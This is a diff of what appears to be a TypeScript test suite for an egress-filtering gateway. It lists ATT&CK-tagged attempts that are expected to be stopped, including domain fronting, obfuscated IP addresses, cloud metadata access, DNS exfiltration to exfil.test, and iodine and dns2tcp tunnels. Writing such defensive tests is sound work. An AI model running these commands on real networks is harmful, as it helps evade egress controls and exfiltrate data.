@@ -1,11 +1,5 @@
-import { passes, STOPPED, type Attack } from './attack.ts'
+import { EVERYWHERE, everywhereBy, passes, type Attack } from './attack.ts'
 
-const everywhere = { endpoint: STOPPED, gateway: STOPPED, run: STOPPED } as const
-/** By what differs from one run to the next. */
-const everywhereBy = (by: string): Pick<Attack, 'endpoint' | 'gateway' | 'run'> => {
-  const stopped = { is: 'stopped', by } as const
-  return { endpoint: stopped, gateway: stopped, run: stopped }
-}
 const WHOLE_IN_TIME = 'content, rule `no`, but missing-facts when it came whole in time, else bad-handshake'
 const plain = { says: /hello from/ } as const
 
@@ -19,7 +13,7 @@ export const NAMES: readonly Attack[] = [
     attempt: 'curl -skS -m 5 --resolve allowed.test:443:198.51.100.20 https://allowed.test/',
     through: plain,
     flows: /^198\.51\.100\.20 443$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1090.004 Domain Fronting',
@@ -31,7 +25,7 @@ export const NAMES: readonly Attack[] = [
     through: plain,
     flows: /^198\.51\.100\.50 443$/,
     told: 'name-mismatch',
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1090.004 Domain Fronting',
@@ -42,7 +36,7 @@ export const NAMES: readonly Attack[] = [
       'curl -sS -m 5 -o /dev/null http://shared-a.test/; curl -sS -m 5 -H "Host: shared-b.test" http://198.51.100.50/',
     through: plain,
     flows: /^198\.51\.100\.50 80$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1090.004 Domain Fronting',
@@ -77,7 +71,7 @@ export const NAMES: readonly Attack[] = [
     attempt: 'python3 "$PIECES" records denied.test 198.51.100.50 443',
     through: { says: /server hello/ },
     flows: /^198\.51\.100\.50 443$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1027 Obfuscated Files or Information',
@@ -108,7 +102,7 @@ export const NAMES: readonly Attack[] = [
     attempt: 'python3 "$PIECES" ech allowed.test 198.51.100.74 443',
     through: { says: /server hello/ },
     flows: /^198\.51\.100\.74 443$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1071.001 Web Protocols',
@@ -118,7 +112,7 @@ export const NAMES: readonly Attack[] = [
     attempt: 'curl -skS -m 5 --resolve denied.test:443:198.51.100.71 https://denied.test/',
     through: plain,
     flows: /^198\.51\.100\.71 443$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1071.001 Web Protocols',
@@ -128,7 +122,7 @@ export const NAMES: readonly Attack[] = [
     attempt: 'curl -sS -m 5 http://198.51.100.20/',
     through: plain,
     flows: /^198\.51\.100\.20 80$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1027 Obfuscated Files or Information',
@@ -138,7 +132,7 @@ export const NAMES: readonly Attack[] = [
     attempt: 'curl -sS -m 5 http://DENIED.test./',
     through: plain,
     flows: /^denied\.test\.?$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1036 Masquerading',
@@ -148,7 +142,7 @@ export const NAMES: readonly Attack[] = [
     attempt: 'LC_ALL=C.UTF-8 curl -sS -m 5 http://bücher.test/',
     through: plain,
     flows: /^(xn--bcher-kva|bücher)\.test$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1027 Obfuscated Files or Information',
@@ -161,7 +155,7 @@ s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
 print(s.recv(999).decode())'`,
     through: plain,
     flows: /^198\.51\.100\.20 80$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1027 Obfuscated Files or Information',
@@ -171,7 +165,7 @@ print(s.recv(999).decode())'`,
     attempt: "curl -sS -m 5 'http://[64:ff9b::c633:6414]/'",
     through: plain,
     flows: /^(198\.51\.100\.20|64:ff9b::c633:6414) 80$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1027 Obfuscated Files or Information',
@@ -181,7 +175,7 @@ print(s.recv(999).decode())'`,
     attempt: 'curl -sS -m 5 http://0306.063.0144.024/ || curl -sS -m 5 http://3325256724/',
     through: plain,
     flows: /^198\.51\.100\.20 80$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1071.001 Web Protocols',
@@ -191,7 +185,7 @@ print(s.recv(999).decode())'`,
     attempt: "curl -sS -m 5 'http://[2001:db8:1::20]/'",
     through: plain,
     flows: /^2001:db8:1::20 80$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1552.005 Cloud Instance Metadata API',
@@ -201,7 +195,7 @@ print(s.recv(999).decode())'`,
     attempt: 'curl -sSL -m 5 http://198.51.100.66/',
     through: plain,
     flows: /^169\.254\.169\.254 80$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1557 Adversary-in-the-Middle',
@@ -211,7 +205,7 @@ print(s.recv(999).decode())'`,
     attempt: 'dig +short +tries=1 +time=2 @198.51.100.53 rebind.example.org',
     through: { says: /10\.77\.0\.1/ },
     flows: /^rebind\.example\.org/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1048.003 Exfiltration Over Unencrypted Non-C2 Protocol',
@@ -221,7 +215,7 @@ print(s.recv(999).decode())'`,
     attempt: 'dig +short +tries=1 +time=2 @198.51.100.53 canary-$PLACE.exfil.test',
     through: { asked: 'canary-$PLACE.exfil.test' },
     flows: /exfil\.test/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1071.004 DNS',
@@ -231,7 +225,7 @@ print(s.recv(999).decode())'`,
     attempt: 'dig +tries=1 +time=2 @198.51.100.72 canary.exfil.test',
     through: { arrives: 'dns 198.51.100.72' },
     flows: /exfil\.test/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1071.004 DNS',
@@ -241,7 +235,7 @@ print(s.recv(999).decode())'`,
     attempt: 'dig +tcp +tries=1 +time=2 @198.51.100.72 canary2.exfil.test',
     through: { arrives: 'dns 198.51.100.72' },
     flows: /exfil\.test/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1071.004 DNS',
@@ -251,7 +245,7 @@ print(s.recv(999).decode())'`,
     attempt: 'kdig +tls +retry=0 +timeout=2 @198.51.100.71 canary.exfil.test',
     through: { says: /TLS session/ },
     flows: /^198\.51\.100\.71 853$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1071.004 DNS',
@@ -261,7 +255,7 @@ print(s.recv(999).decode())'`,
     attempt: 'curl -skS -m 5 --doh-insecure --doh-url https://198.51.100.71/dns-query http://canary.exfil.test/',
     through: { arrives: 'https 198.51.100.71 443' },
     flows: /^198\.51\.100\.71 443$/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1572 Protocol Tunneling',
@@ -272,7 +266,7 @@ print(s.recv(999).decode())'`,
       exec iodine -f -r -P secret 198.51.100.53 t.tunnel.test'`,
     through: { says: /Connection setup complete/ },
     flows: /tunnel\.test/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1572 Protocol Tunneling',
@@ -282,7 +276,7 @@ print(s.recv(999).decode())'`,
     attempt: 'exec dns2tcpc -c -z d.tunnel.test -k secret 198.51.100.53',
     through: { says: /Available connection\(s\)/ },
     flows: /tunnel\.test/,
-    ...everywhere,
+    ...EVERYWHERE,
   },
   {
     technique: 'T1071.001 Web Protocols',
